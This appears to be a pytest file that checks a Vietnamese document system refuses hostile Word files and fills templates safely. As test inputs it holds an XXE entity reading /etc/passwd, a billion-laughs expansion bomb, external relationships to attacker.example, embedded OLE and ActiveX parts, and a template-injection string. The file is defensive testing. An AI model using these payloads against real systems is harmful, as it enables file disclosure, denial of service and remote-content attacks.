"""Hostile and broken Word files: each refused with a sentence, none opened; honest ones read and filled."""

import io
import random
import zipfile

import docx
import pytest

from congvu.documents.drafting import templates
from congvu.documents.drafting.types import DraftContent, FieldKind, TemplateField
from congvu.documents.papers import wordcheck, wordfill
from congvu.documents.papers.errors import WordReachesOutside, WordTooLarge, WordUnreadable
from tests.documents.conftest import docx as small

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def with_part(name, content, base=None):
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base or small())) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            if item.filename != name:
                new.writestr(item, old.read(item.filename))
        new.writestr(name, content)
    return made.getvalue()


def relation(kind, target="http://attacker.example/x"):
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )


ENTITY = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document {W}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>'  # noqa: E501
LAUGHS = "<!DOCTYPE l [" + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9)) + "]>" + "<l>&l8;</l>"


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        (b"", WordUnreadable),
        (b"PK\x03\x04 not a zip", WordUnreadable),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), WordUnreadable),
        (with_part("word/document.xml", "<broken"), WordUnreadable),
        (with_part("word/document.xml", ENTITY), WordReachesOutside),
        (with_part("word/settings.xml", LAUGHS), WordReachesOutside),
        (with_part("word/settings.xml", ENTITY.encode("utf-16")), WordReachesOutside),
        (with_part("word/_rels/settings.xml.rels", relation("attachedTemplate")), WordReachesOutside),
        (with_part("word/_rels/document.xml.rels", relation("oleObject")), WordReachesOutside),
        (with_part("word/_rels/document.xml.rels", relation("image")), WordReachesOutside),
        (with_part("word/embeddings/oleObject1.bin", b"MZ"), WordReachesOutside),
        (with_part("word/activeX/activeX1.bin", b"x"), WordReachesOutside),
        (
            with_part("word/document.xml", f"<w:document {W}><w:body>{'<w:p/>' * 20_002}</w:body></w:document>"),
            WordTooLarge,
        ),
        (
            with_part(
                "word/document.xml", f"<w:document {W}><w:tbl><w:tr>{'<w:tc/>' * 100_002}</w:tr></w:tbl></w:document>"
            ),
            WordTooLarge,
        ),
    ],
    ids=[
        "empty", "no-zip", "ole", "broken-xml", "entity", "laughs", "utf16-entity", "template", "ole-link",
        "image-link", "embedded", "activex", "paragraphs", "cells",
    ],
)  # fmt: skip
def test_refused_with_a_sentence(content, refusal):
    with pytest.raises(refusal) as refused:
        wordcheck.paragraphs(content)
    assert len(str(refused.value)) > 20


def test_a_hyperlink_is_no_danger():
    content = with_part("word/_rels/document.xml.rels", relation("hyperlink"))
    assert wordcheck.paragraphs(content) == "Kính gửi: Ủy ban nhân dân các tỉnh"


def test_fuzzed_files_are_read_or_refused_and_nothing_else():
    dice = random.Random(11)
    whole = small()
    for _round in range(300):
        bad = bytearray(whole)
        for _n in range(dice.randint(1, 12)):
            bad[dice.randrange(len(bad))] = dice.randrange(256)
        try:
            wordcheck.paragraphs(bytes(bad[: dice.choice((len(bad), dice.randrange(len(bad))))]))
        except (WordUnreadable, WordReachesOutside, WordTooLarge):
            continue


def word(*lines, cut=False):
    made = docx.Document()
    for line in lines:
        paragraph = made.add_paragraph()
        for piece in (line[i : i + 3] for i in range(0, len(line), 3)) if cut else [line]:
            paragraph.add_run(piece)
    made.add_table(rows=1, cols=1).rows[0].cells[0].text = "Số tiền: {{so_tien}}"
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


@pytest.mark.parametrize("cut", [False, True], ids=["one-run", "cut-runs"])
def test_fields_of_a_word_template_are_found_and_filled_as_text(cut):
    content = word("Ông {{ ho_ten }} nghỉ từ {{từ_ngày}}.", "{% import os %}{{ 7*7 }} giữ nguyên", cut=cut)
    assert templates.names_in([wordfill.text_of(content)]) == ["ho_ten", "từ_ngày", "so_tien"]
    values = {"ho_ten": "Lê <b>Ơn</b> {{so_tien}}", "so_tien": "5.000"}
    done = wordcheck.paragraphs(wordfill.fill(content, put=templates.filler(values), values=values)).split("\n")
    assert done[0] == "Ông Lê <b>Ơn</b> {{so_tien}} nghỉ từ …."
    assert done[1] == "{% import os %}{{ 7*7 }} giữ nguyên"
    assert done[2] == "Số tiền: 5.000"


def test_fields_of_a_typed_template_are_described_checked_and_filled():
    content = DraftContent(subject="cử {{nguoi}} dự họp", body="Ngày {{ngay}}, {{loai}}.", send_to=("{{noi}}",))
    names = templates.names_in(templates.texts_of(content))
    assert names == ["nguoi", "noi", "ngay", "loai"]
    loai = TemplateField("loai", "Loại", FieldKind.CHOICE, ("gấp", "thường"), required=True)
    fields = templates.fields_for(names, [loai])
    assert [f.label for f in fields] == ["Nguoi", "Noi", "Ngay", "Loại"]
    assert templates.field_problems([TemplateField("x", " "), TemplateField("y", "Y", FieldKind.CHOICE, ("một",))])
    assert set(templates.value_problems(fields, {"loai": "lạ"})) == {"loai"}
    assert set(templates.value_problems(fields, {})) == {"loai"}
    done = templates.filled(content, {"nguoi": "bà Út", "ngay": "05/11", "loai": "gấp", "noi": "Sở\nNội vụ"})
    assert (done.subject, done.body, done.send_to) == ("cử bà Út dự họp", "Ngày 05/11, gấp.", ("Sở Nội vụ",))
